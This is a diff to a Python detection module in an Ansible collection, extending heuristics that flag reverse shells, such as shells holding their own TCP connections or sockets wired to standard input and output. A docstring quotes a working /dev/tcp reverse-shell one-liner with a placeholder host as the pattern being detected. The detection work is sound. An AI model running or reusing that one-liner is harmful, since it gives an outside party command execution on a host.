@@ -32,7 +32,7 @@ from ansible_collections.bulwark.servers.plugins.module_utils.memory_scan.identi
 from ansible_collections.bulwark.servers.plugins.module_utils.memory_scan.model import Process, Sign
 from ansible_collections.bulwark.servers.plugins.module_utils.memory_scan.view import Host
 
-_STREAMS = (b"pipe:[", b"/")
+_STREAMS = (b"pipe:[", b"socket:[", b"/")
 _STREAM = re.compile(rb"(?:pipe|socket):\[\d+\]\Z")
 _DESCRIPTOR = re.compile(rb"/(?:dev|proc/(?:self|thread-self|(\d{1,10})))/fd/(\d{1,9})\Z")
 _MEMORY = re.compile(rb"/memfd:.* \(deleted\)\Z", re.DOTALL)
@@ -67,6 +67,7 @@ def signs(process: Process, host: Host, around: Surroundings) -> t.Iterator[Sign
         or _from_a_descriptor(process, task, targets, host)
         or _from_input(process, task, targets, host, around)
         or _deleted_script(process, task, targets, around)
+        or _with_a_connection_of_its_own(process, spoken, targets, host)
     )
     if found is not None:
         yield found
@@ -85,14 +86,16 @@ def _of_a_copy(process: Process, host: Host, around: Surroundings) -> t.Iterator
 
 
 def _is_copy_of_a_shell(process: Process, around: Surroundings) -> bool:
-    """Say whether an executable is as long as one of the host's shells, to the byte."""
+    """Say whether an executable is as long as one of the host's shells, to the byte, or has most of what that has."""
     size = process.status.size if process.status is not None else 0
     for path in _SHELLS:
         try:
             shell = around.status(path)
         except UnknownError:
             continue
-        if shell is not None and stat.S_ISREG(shell.st_mode) and shell.st_size == size:
+        if shell is None or not stat.S_ISREG(shell.st_mode):
+            continue
+        if shell.st_size == size or around.resembles(process, path, shell.st_size):
             return True
     return False
 
@@ -170,7 +173,7 @@ def _over_streams(process: Process, task: Task, host: Host, around: Surroundings
         _name(end.process),
         printable(end.peer[0]),
         end.peer[1],
-        "a named FIFO" if named else "pipes",
+        "a named FIFO" if named else "streams without a name",
     )
     if process.container and end.process.container != process.container:
         # So do runtimes with what they run, and not all are a package's.
@@ -198,6 +201,9 @@ def _passes_on(end: End, process: Process, host: Host) -> bool:
     """Say whether a program has a stream where filters have them, and is none of those that the shell comes from."""
     other = end.process
     if programs.is_versatile(other) and programs.language(other) is None:
+        return True
+    sockets = {b"socket:[%d]" % one.inode for one in host.sockets_of(other) if streams.is_connection(one)}
+    if any(file.descriptor in (0, 1) and file.target in sockets for file in other.files):
         return True
     return end.descriptor in (0, 1) and other.pid not in {
         one.pid for one in programs.ancestors(process, host.processes)
@@ -311,6 +317,33 @@ def _deleted_script(process: Process, task: Task, targets: t.Mapping[int, bytes]
         "interpreter_deleted_script",
         "%s runs a script from %s, which is gone" % (_name(process), printable(gone[:300])),
     )
+
+
+def _with_a_connection_of_its_own(
+    process: Process, spoken: programs.Language, targets: t.Mapping[int, bytes], host: Host
+) -> Sign | None:
+    """Return what a shell is that has a connection which nothing but shells has: it can read commands from that.
+
+    "exec 5<>/dev/tcp/HOST/PORT; while read line <&5; do eval $line >&5; done". What is left open by a program that
+    starts a shell is that program's as well.
+    """
+    if not programs.is_shell(spoken):
+        return None
+    held = set(targets.values())
+    for one in host.sockets_of(process):
+        name = b"socket:[%d]" % one.inode
+        if name not in held or one.remote is None or not one.protocol.startswith("tcp"):
+            continue
+        others = (other for other in host.processes.values() if any(file.target == name for file in other.files))
+        languages = (programs.language(other) for other in others)
+        if all(language is not None and programs.is_shell(language) for language in languages):
+            detail = "%s has a connection of its own with %s, port %d" % (
+                _name(process),
+                printable(one.remote[0]),
+                one.remote[1],
+            )
+            return Sign("piped_program_connected", detail, severity="low")
+    return None
 
 
 def _target(
